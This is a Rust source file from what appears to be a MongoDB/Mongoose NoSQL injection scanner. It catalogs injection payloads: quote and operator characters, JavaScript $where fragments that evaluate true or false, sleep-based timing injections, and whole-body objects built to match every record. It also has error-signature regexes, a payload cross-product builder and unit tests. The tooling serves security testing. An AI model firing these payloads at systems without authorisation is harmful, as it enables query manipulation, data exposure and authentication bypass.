// src/payloads.rs
//! Static payload catalog for MongoDB/Mongoose injection probing, plus the
//! combinators that instantiate timing templates and build the JavaScript
//! true/false payload cross-product.

use regex::Regex;
use std::collections::HashMap;
use std::sync::OnceLock;

/// Characters with special meaning to Mongo query parsers; injected as
/// parameter values to provoke server-side errors.
pub const MONGO_SPECIAL_CHARS: &[&str] = &["'", "\"", "$", ".", ">", "[", "]"];

/// Fragments appended to parameter keys to provoke operator errors.
pub const MONGO_SPECIAL_KEY_CHARS: &[&str] = &["[$]"];

/// JSON documents injected as keys into JSON bodies.
pub const MONGO_JSON_ERROR_ATTACKS: &[&str] = &[r#"{"foo": 1}"#];

pub const JS_PREFIXES: &[&str] = &["", "'", "\""];
pub const JS_SUFFIXES: &[&str] = &["", "'", "\"", "//", "'}//"];

/// JavaScript fragments that evaluate truthy when concatenated into a
/// server-side $where or mapReduce expression.
pub const JS_TRUE_STRINGS: &[&str] = &[
    " && 'a'=='a' && 'a'=='a",
    " || 'a'=='a' || 'a'=='a",
    ";return true;",
];

/// Falsy counterparts to [`JS_TRUE_STRINGS`].
pub const JS_FALSE_STRINGS: &[&str] = &[" && 'a'!='a' && 'a'!='a", ";return false;"];

/// Marker replaced with a millisecond value in timing templates.
pub const SLEEP_PLACEHOLDER: &str = "TimeToSleep";

pub const JS_TIMING_STRINGS_RAW: &[&str] = &[";sleep(TimeToSleep);"];

/// Whole-body timing injections; sent verbatim as the request body.
pub const JS_TIMING_OBJECT_INJECTIONS_RAW: &[&str] =
    &[r#"{"$where":  "sleep(TimeToSleep)"}"#];

/// Whole-body documents that should match every record.
pub const OBJECT_INJECTIONS_TRUE: &[&str] = &[
    r#"{"$where":  "return true"}"#,
    r#"{"$or": [{},{"foo":"1"}]}"#,
];

/// Whole-body documents that should match no record.
pub const OBJECT_INJECTIONS_FALSE: &[&str] = &[
    r#"{"$where":  "return false"}"#,
    r#"{"$or": [{"foo":"1"},{"foo":"1"}]}"#,
];

const MONGO_ERROR_PATTERNS: &[&str] = &[
    r"Uncaught MongoDB\\Driver\\Exception\\CommandException: unknown operator",
    r"(?i)MongoError",
    r"(?i)unterminated string literal",
];

// Seen when an object is passed where a string was expected. May indicate
// that objects will be parsed as objects.
const MONGOOSE_ERROR_PATTERNS: &[&str] = &[r"(?i)Cast to string failed for value"];

const JS_SYNTAX_ERROR_PATTERNS: &[&str] = &["SyntaxError"];

static MONGO_ERRORS: OnceLock<Vec<Regex>> = OnceLock::new();
static MONGOOSE_ERRORS: OnceLock<Vec<Regex>> = OnceLock::new();
static JS_SYNTAX_ERRORS: OnceLock<Vec<Regex>> = OnceLock::new();

fn compile(patterns: &[&str]) -> Vec<Regex> {
    // A signature that fails to compile is a programming defect, not a
    // runtime condition.
    patterns
        .iter()
        .map(|p| Regex::new(p).expect("valid error signature regex"))
        .collect()
}

pub fn mongo_error_signatures() -> &'static [Regex] {
    MONGO_ERRORS.get_or_init(|| compile(MONGO_ERROR_PATTERNS))
}

pub fn mongoose_error_signatures() -> &'static [Regex] {
    MONGOOSE_ERRORS.get_or_init(|| compile(MONGOOSE_ERROR_PATTERNS))
}

pub fn js_syntax_error_signatures() -> &'static [Regex] {
    JS_SYNTAX_ERRORS.get_or_init(|| compile(JS_SYNTAX_ERROR_PATTERNS))
}

/// Substitute a concrete millisecond value into each timing template.
pub fn js_timing_strings(raw_strings: &[&str], sleep_ms: u64) -> Vec<String> {
    raw_strings
        .iter()
        .map(|s| s.replace(SLEEP_PLACEHOLDER, &sleep_ms.to_string()))
        .collect()
}

/// Build the map of "true" JavaScript payloads to the "false" payloads they
/// are compared against: the cross-product of (prefix, true fragment, suffix)
/// versus (prefix, false fragment, suffix), with `'` rewritten to the
/// requested quote character throughout.
pub fn js_injections(quote: &str) -> HashMap<String, Vec<String>> {
    let mut attacks: HashMap<String, Vec<String>> = HashMap::new();
    for prefix in JS_PREFIXES {
        for suffix in JS_SUFFIXES {
            for true_injection in JS_TRUE_STRINGS {
                let true_injection =
                    format!("{}{}{}", prefix, true_injection, suffix).replace('\'', quote);
                for false_injection in JS_FALSE_STRINGS {
                    let false_injection =
                        format!("{}{}{}", prefix, false_injection, suffix).replace('\'', quote);
                    attacks
                        .entry(true_injection.clone())
                        .or_default()
                        .push(false_injection);
                }
            }
        }
    }
    attacks
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn test_timing_strings_substitute_sleep() {
        let strings = js_timing_strings(JS_TIMING_STRINGS_RAW, 500);
        assert_eq!(strings, vec![";sleep(500);".to_string()]);

        let objects = js_timing_strings(JS_TIMING_OBJECT_INJECTIONS_RAW, 250);
        assert_eq!(objects, vec![r#"{"$where":  "sleep(250)"}"#.to_string()]);
    }

    #[test]
    fn test_js_injections_cross_product_size() {
        let attacks = js_injections("'");
        // prefixes x true fragments x suffixes distinct keys
        assert_eq!(
            attacks.len(),
            JS_PREFIXES.len() * JS_TRUE_STRINGS.len() * JS_SUFFIXES.len()
        );
        for false_list in attacks.values() {
            assert_eq!(false_list.len(), JS_FALSE_STRINGS.len());
        }
    }

    #[test]
    fn test_js_injections_quote_substitution() {
        let attacks = js_injections("\"");
        for (true_injection, false_list) in &attacks {
            assert!(
                !true_injection.contains('\''),
                "single quote left in {:?}",
                true_injection
            );
            for false_injection in false_list {
                assert!(!false_injection.contains('\''));
            }
        }
        assert!(attacks.keys().any(|k| k.contains("\"a\"==\"a\"")));
    }

    #[test]
    fn test_error_signatures_match() {
        assert!(mongo_error_signatures()
            .iter()
            .any(|re| re.is_match("MongoError: something broke")));
        assert!(mongo_error_signatures()
            .iter()
            .any(|re| re.is_match("error: Unterminated string literal")));
        assert!(mongoose_error_signatures()
            .iter()
            .any(|re| re.is_match("Cast to string failed for value \"{}\"")));
        assert!(js_syntax_error_signatures()
            .iter()
            .any(|re| re.is_match("SyntaxError: unexpected token")));
        assert!(!mongo_error_signatures()
            .iter()
            .any(|re| re.is_match("all good here")));
    }
}
